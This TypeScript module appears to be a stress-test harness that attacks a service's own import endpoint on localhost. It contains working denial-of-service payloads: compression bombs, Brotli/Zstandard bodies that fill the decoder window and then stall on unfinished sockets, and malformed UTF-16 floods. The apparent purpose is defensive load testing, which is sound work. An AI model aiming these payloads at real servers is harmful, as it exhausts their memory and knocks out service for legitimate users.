/** Attacks that cost a node most while it decompresses or decodes a body. */
import { connect } from "node:net";
import { type Attack, aborted, type Coding, loops, packed, post, type Target } from "./attack.ts";

const csv = "text/csv";
const ndjson = "application/x-ndjson";
const MIB = 2 ** 20;
/** The size of a body after decompression. It is larger than any limit. */
const BOMB_MIB = 128;
const AT_ONCE = 16;
/** A little more than the window of Zstandard or Brotli, so that the window is full. */
const WINDOW_MIB = 17;
/** How many uploads a client may send at once by default. */
const WINDOWS = 16;

function bomb(coding: Coding): Attack {
  return {
    name: `${AT_ONCE} ${coding} bodies at once that grow to ${BOMB_MIB} MiB`,
    run(target, stop) {
      const body = packed(csv, [["a\n", (BOMB_MIB * MIB) / 2]], { coding });
      return loops(AT_ONCE, stop, () => post(target, body, stop));
    },
  };
}

/** Sends many compressed bodies that stop when the decoder's window is full, so that each one holds that memory. */
function windows(coding: "zstd" | "br"): Attack {
  return {
    name: `${WINDOWS} ${coding} bodies at once that fill their windows and stop`,
    async run(target, stop) {
      const { bytes } = packed(csv, [["a\n", (WINDOW_MIB * MIB) / 2]], { coding });
      const sockets = Array.from({ length: WINDOWS }, () => unfinished(target, bytes, coding));
      await aborted(stop);
      for (const socket of sockets) socket.destroy();
    },
  };
}

function unfinished({ port, partner }: Target, bytes: Buffer, coding: Coding) {
  const head = [
    "POST /imports HTTP/1.1",
    "host: 127.0.0.1",
    `authorization: ${partner.auth}`,
    `content-type: ${csv}`,
    `content-encoding: ${coding}`,
    `content-length: ${bytes.length + 1}`,
  ];
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => socket.destroy());
  socket.write(`${head.join("\r\n")}\r\n\r\n`);
  socket.write(bytes.subarray(0, -1));
  return socket;
}

export const codings: Record<string, Attack> = {
  "deflate-bomb": bomb("deflate"),
  "br-bomb": bomb("br"),
  "zstd-bomb": bomb("zstd"),
  "br-windows": windows("br"),
  "zstd-windows": windows("zstd"),
  "utf16-lines": {
    name: `${AT_ONCE} bodies at once of 32 MiB of blank lines each, in UTF-16`,
    run(target, stop) {
      const body = packed(
        ndjson,
        [
          ["\ufeff", 1],
          ["\n", 16 * MIB],
        ],
        { encoding: "utf16le" },
      );
      return loops(AT_ONCE, stop, () => post(target, body, stop));
    },
  },
  "utf16-wrong": {
    name: "4 bodies at once of 1,000,000 rows each, all with halves of letters, in UTF-16",
    run(target, stop) {
      const body = packed(
        csv,
        [
          ["\ufeffa,b\n", 1],
          ["\ud800,\udc00\n", 1_000_000],
        ],
        { encoding: "utf16le" },
      );
      return loops(4, stop, () => post(target, body, stop));
    },
  },
};
